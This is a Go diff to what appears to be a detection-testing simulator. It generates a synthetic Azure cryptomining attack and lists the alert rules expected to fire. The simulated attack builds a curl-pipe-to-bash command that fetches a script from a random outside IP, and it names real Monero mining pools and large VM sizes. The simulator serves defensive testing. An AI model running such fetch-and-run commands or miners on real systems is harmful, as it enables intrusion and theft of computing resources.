@@ -2,7 +2,6 @@ package simulate
 
 import (
 	"fmt"
-	"slices"
 	"strings"
 	"time"
 )
@@ -29,7 +28,7 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	sp := g.spActor(t.CI, ip)
 	a := Attack{Start: at, Principals: []string{strings.ToLower(t.CI.OID), strings.ToLower(t.CI.AppID)}, Resources: []string{strings.ToLower(t.FirewallID)}}
 	size := pick(g.r, []string{"Standard_F72s_v2", "Standard_HB120rs_v3", "Standard_F64s_v2"})
-	far, fresh := g.otherRegions(2)
+	far := g.otherRegions(2)
 	regions := append([]string{t.Regions[len(t.Regions)-1]}, far...)
 	pool := pick(g.r, []string{"gulf.moneroocean.stream", "pool.supportxmr.com", "xmr-eu1.nanopool.org", "pool.hashvault.pro"})
 	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/i.sh | bash"
@@ -52,9 +51,6 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	a.MustFire = []string{
 		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
 		"azure.dns.mining_pool_lookup", "azure.host.miner_process",
-	}
-	if !fresh {
-		a.MustFire = slices.DeleteFunc(a.MustFire, func(r string) bool { return r == "azure.compute.new_region" })
 	}
 	return a
 }
